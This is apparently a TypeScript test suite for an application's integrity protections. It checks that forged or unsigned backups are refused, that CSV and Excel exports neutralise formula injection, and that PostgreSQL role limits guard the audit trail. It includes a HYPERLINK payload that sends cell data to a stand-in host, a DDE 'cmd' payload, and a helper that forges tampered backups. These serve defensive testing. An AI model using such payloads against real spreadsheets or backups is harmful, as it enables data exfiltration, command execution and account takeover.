// Nothing lost, nobody where they don't belong — the integrity part of the outside probe (issue #10):
// - a backup whose password hash and audit rows were changed and whose checksum was recomputed is refused,
//   as is an unsigned one, unless the operator says --trust-unsigned; a correctly signed one restores; the
//   store is unchanged after every refusal (both engines, and the ecociv command with its key file);
// - every CSV cell a spreadsheet would take for a formula is written as text; the Excel exports hold no
//   formulas, only text and numbers (both engines);
// - on PostgreSQL with two roles the application role records figures and appends to the audit trail but
//   cannot TRUNCATE it, disable or drop its trigger, drop it, or UPDATE/DELETE its rows.
import { createHash, createHmac } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import JSZip from 'jszip';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assessPlan } from '../../src/app/assessPlan.ts';
import { departmentAssessment } from '../../src/app/departmentAssessment.ts';
import { hashPassword } from '../../src/auth/password.ts';
import { SYSTEM_ACTOR } from '../../src/auth/roles.ts';
import { departmentsWorkbook } from '../../src/exchange/departmentsWorkbook.ts';
import { progressWorkbook } from '../../src/exchange/progressWorkbook.ts';
import { projectsWorkbook } from '../../src/exchange/projectsWorkbook.ts';
import { workPlanWorkbook } from '../../src/exchange/workPlanWorkbook.ts';
import { scorecardWorkbook } from '../../src/reports/scorecardXlsx.ts';
import { listAudit } from '../../src/store/audit.ts';
import { BackupError, backupStore, restoreStore, storeFingerprint } from '../../src/store/backup.ts';
import { backupKey, backupKeyFile, type BackupKey } from '../../src/store/backupKey.ts';
import type { Db } from '../../src/store/db.ts';
import { openStore } from '../../src/store/index.ts';
import { recordProgress, recordProjectChange } from '../../src/store/projectTracking.ts';
import { recordObservations } from '../../src/store/recordObservations.ts';
import { asOwner, RoleSetupError } from '../../src/store/roles.ts';
import { createUser, signIn } from '../../src/store/users.ts';
import { recordWorkItems } from '../../src/store/workPlan.ts';
import { csvTable as auditCsvTable, type AuditRecord } from '../../web/src/lib/audit.ts';
import { csvCell, toCsv } from '../../web/src/lib/csv.ts';
import webZhCN from '../../web/src/i18n/parts/audit.zh-CN.ts';
import { cliIn } from '../helpers/cli.ts';
import { ENGINES, openTestStore, TEST_DATABASE_URL, type TestStore } from '../helpers/stores.ts';

const PLAN = 'wushan-demo-county';
const dir = mkdtempSync(join(tmpdir(), 'ecociv-integrity-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const key: BackupKey = { secret: Buffer.from('integrity-test-key-0123456789abcdef'), source: 'test' };
const ADMIN_PASSWORD = 'Ecociv-管理员-2026!';
const ATTACKER_PASSWORD = 'Attacker-gets-in-2026!';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
const session = { ip: '10.0.0.9', userAgent: 'probe' };

// ---------------------------------------------------------------- backup files as an attacker edits them

const lines = (file: string) => gunzipSync(readFileSync(file)).toString('utf8').split('\n').filter((l) => l.length > 0);

/** Rewrite a backup's body and its trailer: checksum recomputed; the signature kept, dropped or made with another key. */
function rewrite(file: string, body: string[], signature: 'kept' | 'dropped' | { secret: Buffer }, out: string): string {
  const text = body.map((l) => `${l}\n`).join('');
  const old = JSON.parse(lines(file).at(-1)!);
  const trailer: Record<string, unknown> = { ...old, sha256: createHash('sha256').update(text).digest('hex') };
  if (signature === 'dropped') delete trailer.hmacSha256;
  else if (signature !== 'kept') trailer.hmacSha256 = createHmac('sha256', signature.secret).update(text).digest('hex');
  writeFileSync(out, gzipSync(`${text}${JSON.stringify(trailer)}\n`));
  return out;
}

/** The backup's body with the admin's password hash replaced and the audit trail's actor names rewritten. */
async function tamperedBody(file: string): Promise<string[]> {
  const all = lines(file).slice(0, -1);
  const header = JSON.parse(all[0]!) as { tables: Array<{ name: string; columns: Array<{ name: string }> }> };
  const col = (table: string, column: string) => header.tables.find((t) => t.name === table)!.columns.findIndex((c) => c.name === column);
  const attackerHash = await hashPassword(ATTACKER_PASSWORD);
  let table = '';
  return all.map((l, i) => {
    if (i === 0) return l;
    const v = JSON.parse(l) as unknown;
    if (!Array.isArray(v)) {
      table = (v as { table: string }).table;
      return l;
    }
    if (table === 'users') v[col('users', 'password_hash')] = attackerHash;
    if (table === 'audit_log') v[col('audit_log', 'actor_name')] = '系统';
    return JSON.stringify(v);
  });
}

async function refusal(p: Promise<unknown>): Promise<BackupError> {
  const e = await p.then(() => undefined, (x: unknown) => x);
  expect(e).toBeInstanceOf(BackupError);
  return e as BackupError;
}

/** An empty store of the test's own (migrated, no built-in data: a restore's usual target), dropped afterwards. */
async function withStore<T>(engine: (typeof ENGINES)[number], fn: (db: Db) => Promise<T>): Promise<T> {
  const s = await openTestStore(engine, { skipBuiltin: true });
  try {
    return await fn(s.db);
  } finally {
    await s.close();
  }
}

describe.each(ENGINES)('signed backups on %s', (engine) => {
  let source: TestStore;
  let file: string;
  let fingerprint: Awaited<ReturnType<typeof storeFingerprint>>;
  beforeAll(async () => {
    source = await openTestStore(engine, { skipBuiltin: true }); // accounts and the audit trail are what matter here
    await createUser(source.db, { username: 'admin', displayName: '管理员', password: ADMIN_PASSWORD, roles: [{ role: 'admin' }] }, SYSTEM_ACTOR);
    expect((await signIn(source.db, 'admin', ADMIN_PASSWORD, session)).ok).toBe(true);
    file = join(dir, `${engine}.ndjson.gz`);
    await backupStore(source.db, file, { key });
    fingerprint = await storeFingerprint(source.db);
  }, 120_000);
  afterAll(async () => {
    await source?.close();
  });

  it('refuses a backup whose password hash and audit rows were changed, checksum recomputed — signature kept, dropped or forged — and leaves the store as it was', async () => {
    const body = await tamperedBody(file);
    await withStore(engine, async (target) => {
      const before = await storeFingerprint(target);
      const cases = [
        ['kept', /签名与本机的备份密钥（test）不符：文件在备份后被改动过/],
        [{ secret: Buffer.from('the-attackers-own-key-0123456789abc') }, /签名与本机的备份密钥（test）不符/],
        ['dropped', /没有签名.*请加上 --trust-unsigned 再恢复：ecociv restore --trust-unsigned /],
      ] as const;
      for (const [signature, message] of cases) {
        const out = rewrite(file, body, signature, join(dir, `${engine}-tampered-${typeof signature === 'string' ? signature : 'forged'}.gz`));
        const e = await refusal(restoreStore(target, out, { key }));
        expect(e.message).toMatch(message);
        expect(e.message).toContain('未做任何改动');
        expect(e.message).not.toMatch(/hmac|sha256|\{|\}/i);
      }
      expect(await storeFingerprint(target)).toEqual(before);
      expect((await target.query('SELECT 1 FROM users')).rows).toEqual([]);
    });
  }, 120_000);

  it('restores a correctly signed backup: the store is the same, the admin signs in, the attacker’s password does not', async () => {
    await withStore(engine, async (target) => {
      const r = await restoreStore(target, file, { key });
      expect(r.signature).toBe('signed');
      expect(await storeFingerprint(target)).toEqual(fingerprint);
      expect((await signIn(target, 'admin', ATTACKER_PASSWORD, session)).ok).toBe(false);
      expect((await signIn(target, 'admin', ADMIN_PASSWORD, session)).ok).toBe(true);
    });
  }, 120_000);

  it('restores an unsigned file (as made before backups were signed) only with trustUnsigned, and the restore stays on the audit record', async () => {
    const unsigned = rewrite(file, lines(file).slice(0, -1), 'dropped', join(dir, `${engine}-unsigned.gz`));
    await withStore(engine, async (target) => {
      const before = await storeFingerprint(target);
      const e = await refusal(restoreStore(target, unsigned, { key }));
      expect(e.message).toMatch(/^备份文件 .+ 没有签名/);
      expect(await storeFingerprint(target)).toEqual(before);
      // without a key at all, a signed file cannot be checked either
      const noKey = await refusal(restoreStore(target, file, { key: { source: '密钥文件 /nowhere/ecociv-backup.key', file: '/nowhere/ecociv-backup.key' } }));
      expect(noKey.message).toMatch(/带有签名，但本机还没有备份密钥.*复制到 \/nowhere\/ecociv-backup\.key/);
      expect(await storeFingerprint(target)).toEqual(before);

      const progress: string[] = [];
      const r = await restoreStore(target, unsigned, { key, trustUnsigned: true, onProgress: (l) => progress.push(l) });
      expect(r.signature).toBe('unsigned');
      expect(progress[0]).toBe('注意：按 --trust-unsigned 恢复，未核对签名（文件没有签名）。');
      const after = await storeFingerprint(target);
      expect(after.users).toEqual(fingerprint.users);
      expect(after.audit_log!.rows).toBe(fingerprint.audit_log!.rows + 1);
      const last = await target.query<{ action: string; after: { signature: string; file: string } }>('SELECT action, after FROM audit_log ORDER BY id DESC LIMIT 1');
      expect(last.rows[0]).toMatchObject({ action: 'backup.restoreUnverified', after: { signature: 'unsigned', file: `${engine}-unsigned.gz` } });
    });
  }, 120_000);
});

describe('the backup key', () => {
  it('is made on the first backup beside the data directory, readable by its owner only, and refused when others can read it or when too short', () => {
    const env = { ECOCIV_DATA_DIR: join(dir, 'install', 'store') };
    expect(backupKeyFile(env)).toBe(join(dir, 'install', 'ecociv-backup.key'));
    expect(backupKey({ create: false, env }).secret).toBeUndefined();
    expect(existsSync(backupKeyFile(env))).toBe(false);
    const said: string[] = [];
    const made = backupKey({ create: true, env, onCreated: (l) => said.push(l) });
    expect(made.secret!.length).toBe(64);
    expect(statSync(backupKeyFile(env)).mode & 0o777).toBe(0o600);
    expect(said[0]).toMatch(/^已生成本机的备份密钥 .+ecociv-backup\.key/);
    expect(backupKey({ create: true, env }).secret).toEqual(made.secret); // made once, then read
    chmodSync(backupKeyFile(env), 0o644);
    expect(() => backupKey({ create: true, env })).toThrow(/权限是 644，其他用户也能读取或改写；请执行 chmod 600 /);
    expect(() => backupKey({ create: true, env: { ECOCIV_BACKUP_KEY: 'short' } })).toThrow('环境变量 ECOCIV_BACKUP_KEY 中的备份密钥只有 5 个字符，至少需要 32 个字符');
    expect(backupKey({ create: false, env: { ...env, ECOCIV_BACKUP_KEY_FILE: join(dir, 'elsewhere.key') } })).toMatchObject({ file: join(dir, 'elsewhere.key') });
  });
});

describe('ecociv restore with the key file (embedded store)', () => {
  it('another installation without the key refuses a signed file; --trust-unsigned restores an unsigned one', async () => {
    // a signed backup as the first installation makes it: its key beside its data directory
    const made = backupKey({ create: true, env: { ECOCIV_DATA_DIR: join(dir, 'cli-source', 'store') } });
    expect(made.file).toBe(join(dir, 'cli-source', 'ecociv-backup.key'));
    const file = join(dir, 'cli-备份.ndjson.gz');
    await withStore('pglite', (db) => backupStore(db, file, { key: made }));
    const target = cliIn(join(dir, 'cli-target'));
    const refused = await target('restore', file);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/带有签名，但本机还没有备份密钥.*未做任何改动/);
    expect(refused.stderr).toContain(join(dir, 'cli-target', 'ecociv-backup.key'));
    expect(existsSync(join(dir, 'cli-target', 'ecociv-backup.key'))).toBe(false); // a restore never makes a key

    const unsigned = rewrite(file, lines(file).slice(0, -1), 'dropped', join(dir, 'cli-unsigned.gz'));
    const trusted = await target('restore', '--trust-unsigned', unsigned, '--format', 'json');
    expect(trusted.code, trusted.stderr).toBe(0);
    expect(trusted.stderr).toContain('注意：按 --trust-unsigned 恢复，未核对签名（文件没有签名）');
    expect(JSON.parse(trusted.stdout)).toMatchObject({ signature: 'unsigned', engine: 'pglite' });
  }, 120_000);
});

// ---------------------------------------------------------------- CSV and Excel

/** Cells of one CSV line (RFC 4180 quoting). */
function csvCells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].slice(0, -1).map((m) => (m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!));
}

describe('CSV exports', () => {
  it('write every cell a spreadsheet would take for a formula as quoted text after a single quote; numbers stay numbers', () => {
    for (const s of [FORMULA, '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '  =1+1', '＝1+1', "=cmd|' /C calc'!A0"]) {
      const cell = csvCell(s);
      expect(cell, JSON.stringify(s)).toBe(`"'${s.replace(/"/g, '""')}"`);
    }
    for (const s of ['-12.5', '+3', '0', '1e3', '45%', '-', '巫山县', '24.3', 'a=b', 'x-1']) expect(csvCell(s), s).toBe(s);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(toCsv([['=1+1', '-5', '说明']])).toBe(`"'=1+1",-5,说明\r\n`);
  });

  it('only lib/csv.ts writes CSV in the web app; its callers are the audit, consistency and scorecard exports', () => {
    const root = join(import.meta.dirname, '../../web/src');
    const files = (d: string): string[] =>
      readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(join(d, e.name)) : [join(d, e.name)]));
    const writers = files(root).filter((f) => /text\/csv|\.join\(['"],['"]\)/.test(readFileSync(f, 'utf8')));
    expect(writers.map((f) => f.slice(root.length + 1))).toEqual(['lib/csv.ts']);
    const callers = files(root).filter((f) => readFileSync(f, 'utf8').includes("from '../lib/csv.ts'")).map((f) => f.slice(root.length + 1)).sort();
    expect(callers).toEqual(['components/FrameworkScorecard.tsx', 'pages/AuditPage.tsx', 'pages/ConsistencyPage.tsx']);
  });
});

/** Every cell of every sheet of an xlsx: its XML, and the shared strings. */
async function xlsxParts(data: Buffer): Promise<{ cells: string[]; strings: string }> {
  const zip = await JSZip.loadAsync(data);
  const cells: string[] = [];
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
    const xml = await zip.file(name)!.async('string');
    cells.push(...(xml.match(/<c [^>]*?(\/>|>[\s\S]*?<\/c>)/g) ?? []));
  }
  return { cells, strings: (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '' };
}

const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');

describe.each(ENGINES)('formula text on %s', (engine) => {
  let store: TestStore;
  beforeAll(async () => {
    store = await openTestStore(engine);
  }, 120_000);
  afterAll(async () => {
    await store?.close();
  });

  it('a sign-in attempt named as a formula lands in the audit CSV as text', async () => {
    const r = await signIn(store.db, FORMULA, 'whatever', session);
    expect(r.ok).toBe(false);
    const records = JSON.parse(JSON.stringify(await listAudit(store.db, { limit: 10 }))) as AuditRecord[];
    const csv = toCsv(auditCsvTable(records, (k: string) => (webZhCN as Record<string, string>)[k] ?? k));
    const row = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    expect(csvCells(row)[1]).toBe(`'${FORMULA}`);
    expect(csvCells(csv.split('\r\n')[0]!)[1]).toBe('操作人');
  });

  it('the Excel exports write text that looks like a formula as text, and hold no formulas; numbers stay numbers', async () => {
    const db = store.db;
    await recordProjectChange(db, { plan: PLAN, project: 'N1', kind: 'add', fields: { name: FORMULA, group: '生态安全保障工程', investmentWan: 500, yearStart: 2024, yearEnd: 2025, leadUnits: '@SUM(A1:A9)' }, reason: '+新增', effectiveOn: '2024-03-01' });
    await recordProgress(db, [{ plan: PLAN, project: '1', period: '2024-Q1', investmentPeriodWan: 100, status: '在建', milestones: '-1+2 完成', reportedOn: '2024-04-05' }]);
    await recordWorkItems(db, [{ plan: PLAN, year: 2024, title: "=cmd|' /C calc'!A0", leadUnit: '@SUM(A1:A9)', deadline: '2024-05-31' }]);
    const books = {
      projects: await projectsWorkbook(db, PLAN, { asOf: '2024-07-01' }),
      progress: await progressWorkbook(db, PLAN, { period: '2024-Q1', asOf: '2024-07-01' }),
      workPlan: await workPlanWorkbook(db, PLAN, { year: 2024, asOf: '2024-07-01' }),
      departments: await departmentsWorkbook(await departmentAssessment(db, PLAN, 2024, { asOf: '2024-07-01' })),
      scorecard: await scorecardWorkbook(await assessPlan(db, PLAN, 2021)),
      application: await scorecardWorkbook(await assessPlan(db, PLAN, 2021), 'zh-CN', 'application'),
    };
    const expectText: Record<string, string[]> = { projects: [FORMULA, '@SUM(A1:A9)'], progress: [FORMULA, '-1+2 完成'], workPlan: ["=cmd|' /C calc'!A0", '@SUM(A1:A9)'], departments: ['@SUM(A1:A9)'] };
    for (const [name, data] of Object.entries(books)) {
      const { cells, strings } = await xlsxParts(data);
      expect(cells.filter((c) => c.includes('<f>') || c.includes('<f ')), name).toEqual([]);
      if (name === 'projects' || name === 'progress') expect(cells.some((c) => !/ t="/.test(c) && /<v>-?[\d.]+<\/v>/.test(c)), `${name}: a number stays a number`).toBe(true);
      for (const s of expectText[name] ?? []) expect(strings, `${name}: ${s}`).toContain(`<t>${xmlText(s)}</t>`);
    }
  }, 120_000);
});

// ---------------------------------------------------------------- database roles (PostgreSQL)

describe('database roles on PostgreSQL', () => {
  const suffix = `${process.pid}_${Date.now().toString(36)}`;
  const ownerRole = `ecociv_owner_${suffix}`;
  const appRole = `ecociv_app_${suffix}`;
  const schema = `ecociv_roles_${suffix}`;
  const urlAs = (role: string) => {
    const u = new URL(TEST_DATABASE_URL);
    u.username = role;
    u.password = '';
    return `${u.toString()}${u.search ? '&' : '?'}options=${encodeURIComponent(`-c search_path=${schema}`)}`;
  };
  const admin = new pg.Client({ connectionString: TEST_DATABASE_URL });
  let db: Db | undefined;
  beforeAll(async () => {
    await admin.connect();
    await admin.query(`CREATE ROLE ${ownerRole} LOGIN; CREATE ROLE ${appRole} LOGIN; CREATE SCHEMA ${schema} AUTHORIZATION ${ownerRole}`);
  });
  afterAll(async () => {
    await db?.close();
    await admin.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`);
    for (const r of [appRole, ownerRole]) await admin.query(`DROP OWNED BY ${r} CASCADE; DROP ROLE ${r}`);
    await admin.end();
  });

  it('the application role does its normal work, but cannot TRUNCATE, disable or drop the trigger, drop, UPDATE or DELETE the audit trail', async () => {
    const progress: string[] = [];
    db = await openStore({ databaseUrl: urlAs(appRole), migrationUrl: urlAs(ownerRole), onProgress: (l) => progress.push(l) });
    expect(progress.join('\n')).not.toContain('未设置 ECOCIV_MIGRATION_URL');
    const owners = await admin.query<{ owner: string }>(`SELECT DISTINCT pg_get_userbyid(c.relowner) AS owner FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = $1`, [schema]);
    expect(owners.rows.map((r) => r.owner)).toEqual([ownerRole]);

    const audit = async () => (await admin.query<{ n: string }>(`SELECT count(*) AS n FROM ${schema}.audit_log`)).rows[0]!.n;
    const auditBefore = Number(await audit());
    await recordObservations(db, [{ plan: PLAN, framework: 'national-demo-county', number: '3', year: 2024, printed: '25' }], { userId: null, name: '县生态环境局 张三', ip: '10.0.0.8' });
    expect(Number(await audit())).toBe(auditBefore + 1);
    const landed = await db.query<{ actor_name: string; action: string }>('SELECT actor_name, action FROM audit_log ORDER BY id DESC LIMIT 1');
    expect(landed.rows[0]).toEqual({ actor_name: '县生态环境局 张三', action: 'observation.record' });
    await backupStore(db, join(dir, 'app-role.ndjson.gz'), { key }); // the application role can back up

    const before = await audit();
    const app = new pg.Client({ connectionString: urlAs(appRole) });
    await app.connect();
    try {
      for (const sql of [
        'TRUNCATE audit_log',
        'ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update',
        'DROP TRIGGER audit_log_no_update ON audit_log',
        'DROP TABLE audit_log',
        "UPDATE audit_log SET actor_name = '系统'",
        'DELETE FROM audit_log',
        'DROP FUNCTION audit_log_append_only() CASCADE',
        'CREATE TABLE audit_copy (id int)',
        "INSERT INTO schema_migrations (version, name) VALUES (999, 'x')",
      ]) {
        const e = await app.query(sql).then(() => undefined, (x: Error) => x);
        expect(e?.message, sql).toMatch(/permission denied|must be owner/);
      }
    } finally {
      await app.end();
    }
    expect(await audit()).toBe(before);
    const trigger = await admin.query<{ tgenabled: string }>(`SELECT t.tgenabled FROM pg_trigger t JOIN pg_class c ON c.oid = t.tgrelid JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = $1 AND t.tgname = 'audit_log_no_update'`, [schema]);
    expect(trigger.rows).toEqual([{ tgenabled: 'O' }]);
  }, 120_000);

  it('a restore runs as the owner; afterwards the application role has its grants again and no more', async () => {
    // an empty second store of the same two roles, restored from the application role's backup
    const second = `${schema}_b`;
    await admin.query(`CREATE SCHEMA ${second} AUTHORIZATION ${ownerRole}`);
    const at = (role: string) => urlAs(role).replace(encodeURIComponent(`search_path=${schema}`), encodeURIComponent(`search_path=${second}`));
    const target = await openStore({ databaseUrl: at(appRole), migrationUrl: at(ownerRole), skipBuiltin: true });
    try {
      const before = await storeFingerprint(target);
      const e = await restoreStore(target, join(dir, 'app-role.ndjson.gz'), { key }).then(() => undefined, (x: Error) => x);
      expect(e?.message).toMatch(/permission denied|must be owner/); // the application role alone cannot empty the tables
      expect(await storeFingerprint(target)).toEqual(before);
      const r = await asOwner(target, at(ownerRole), (owner) => restoreStore(owner, join(dir, 'app-role.ndjson.gz'), { key }));
      expect(r.signature).toBe('signed');
      expect(await storeFingerprint(target)).toEqual(await storeFingerprint(db!));
      const e2 = await target.query('TRUNCATE audit_log').then(() => undefined, (x: Error) => x);
      expect(e2?.message).toMatch(/permission denied/);
    } finally {
      await target.close();
      await admin.query(`DROP SCHEMA ${second} CASCADE`);
    }
  }, 120_000);

  it('ECOCIV_MIGRATION_URL without a server is refused, saying what to set', async () => {
    const e = await openStore({ dataDir: 'memory://', migrationUrl: urlAs(ownerRole) }).then((x) => x.close(), (x: unknown) => x);
    expect(e).toBeInstanceOf(RoleSetupError);
    expect((e as Error).message).toBe('ECOCIV_MIGRATION_URL 只用于 PostgreSQL 服务器：请同时用 DATABASE_URL 指定应用角色的连接。');
  });

  it('refuses an application role that owns a table in the schema, naming it and the fix', async () => {
    await admin.query(`CREATE TABLE ${schema}.stray (id int); ALTER TABLE ${schema}.stray OWNER TO ${appRole}`);
    try {
      const e = await openStore({ databaseUrl: urlAs(appRole), migrationUrl: urlAs(ownerRole), skipBuiltin: true }).then((x) => x.close(), (x: unknown) => x);
      expect(e).toBeInstanceOf(RoleSetupError);
      expect((e as Error).message).toMatch(new RegExp(`应用角色 ${appRole} 的权限过大（拥有 stray）.*REASSIGN OWNED BY ${appRole} TO ${ownerRole};`));
    } finally {
      await admin.query(`DROP TABLE ${schema}.stray`);
    }
  });

  it('with one role (no ECOCIV_MIGRATION_URL) says once that the audit trail is protected against UPDATE and DELETE only', async () => {
    const said: string[] = [];
    const one = await openTestStore('postgres', { skipBuiltin: true, onProgress: (l) => said.push(l) });
    await one.close();
    const again = await openTestStore('postgres', { skipBuiltin: true, onProgress: (l) => said.push(l) });
    await again.close();
    expect(said.filter((l) => l.includes('未设置 ECOCIV_MIGRATION_URL'))).toEqual([
      '注意：未设置 ECOCIV_MIGRATION_URL，数据库结构和日常读写用的是同一个数据库角色：审计记录只能防止修改和删除，不能防止这个角色清空审计表或停用其触发器。要得到完整的保护，请让 ECOCIV_MIGRATION_URL 使用表的所有者角色，DATABASE_URL 使用只有读写权限的应用角色。',
    ]);
  });
});
